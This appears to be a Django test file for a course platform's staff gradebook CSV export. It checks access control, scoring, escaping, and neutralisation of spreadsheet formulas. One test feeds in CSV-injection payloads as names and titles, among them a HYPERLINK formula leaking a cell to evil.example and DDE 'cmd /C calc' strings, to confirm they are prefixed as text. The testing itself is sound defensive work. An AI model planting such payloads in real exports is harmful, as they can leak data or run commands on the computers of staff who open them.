import csv
import io

from django.contrib.auth.models import User

from courses.models import QuizAttempt
from grader.models import Exercise
from staff.review import override_score
from tests.grader.factories import make_exercise
from tests.staff.base import StaffTestCase


class GradebookCsvTestCase(StaffTestCase):
    url = "/staff/courses/torch-101/gradebook.csv"

    def rows(self):
        self.login(self.ian)
        response = self.client.get(self.url)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn('filename="torch-101-open-gradebook.csv"', response["Content-Disposition"])
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    def test_it_starts_with_a_utf8_byte_order_mark_for_excel(self):
        self.graded(self.alice, 5)
        self.login(self.ian)
        self.assertTrue(self.client.get(self.url).content.startswith(b"\xef\xbb\xbfusername,"))

    def test_only_the_courses_staff_can_download_it(self):
        self.assert_staff_only(self.url)

    def test_it_has_one_row_per_student_and_a_total(self):
        self.graded(self.alice, 5)
        self.graded(self.bob, 3)
        header, *rows = self.rows()
        self.assertEqual(header[:2], ["username", "name"])
        self.assertEqual(header[-2:], ["total", "maximum"])
        self.assertIn("Outer product", header)
        self.assertEqual([r[0] for r in rows], ["alice", "bob"])
        self.assertEqual(rows[0][header.index("Outer product")], "5")
        self.assertEqual(rows[0][-2], "5")

    def test_a_quiz_scores_its_last_attempt_when_the_policy_says_so(self):
        self.enroll(self.alice)
        QuizAttempt.grade(self.alice, self.chapter, {"single": ["b"], "multiple": ["a", "c"]})
        QuizAttempt.grade(self.alice, self.chapter, {})
        self.chapter.quiz_scoring = "last"
        self.chapter.save()
        QuizAttempt.grade(self.alice, self.chapter2, {"single": ["b"], "multiple": ["a", "c"]})
        QuizAttempt.grade(self.alice, self.chapter2, {})
        header, row = self.rows()
        self.assertEqual([row[header.index("Quiz 1")], row[header.index("Quiz 2")], row[-2]], ["0", "2", "2"])

    def test_names_with_commas_quotes_and_accents_survive(self):
        self.alice.first_name, self.alice.last_name = 'Zoë "Z"', "O'Neil, Jr."
        self.alice.save()
        self.graded(self.alice, 6)
        _, row = self.rows()
        self.assertEqual(row[1], 'Zoë "Z" O\'Neil, Jr.')

    def test_text_that_a_spreadsheet_would_run_as_a_formula_is_prefixed_to_stay_text(self):
        names = {
            "mallory": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=HYPERLINK"),
            "@SUM": ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
            "+plus": ("+1+2", ""),
            "-2": ("-2+3", ""),
        }
        for username, (first_name, last_name) in names.items():
            self.graded(User.objects.create_user(username, first_name=first_name, last_name=last_name), 4)
        # Names lose leading whitespace (get_full_name strips it); titles keep it.
        for slug, title in (("formula", "=cmd|' /C calc'!A0"), ("tab", "\t=1+1"), ("cr", "\r=1+1")):
            Exercise.objects.filter(pk=make_exercise(self.chapter, slug=slug).pk).update(title=title)
        header, *rows = self.rows()
        self.assertLessEqual({"'=cmd|' /C calc'!A0", "'\t=1+1", "'\r=1+1"}, set(header))
        self.assertEqual({row[0]: row[1] for row in rows}, {
            "mallory": """'=HYPERLINK("http://evil.example/?"&A1,"Click") =HYPERLINK""",
            "'@SUM": "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+plus": "'+1+2",
            "'-2": "'-2+3",
        })

    def test_scores_stay_numbers(self):
        self.alice.first_name = "Ann"
        self.alice.save()
        submission = self.graded(self.alice, 2)
        override_score(submission, 5.5, "partial credit", self.ian)
        header, row = self.rows()
        self.assertEqual(row[1], "Ann")
        self.assertEqual(row[header.index("Outer product")], "5.5")
        self.assertEqual(row[-2:], ["5.5", "12"])  # three quizzes of 2 points and the exercise's 6
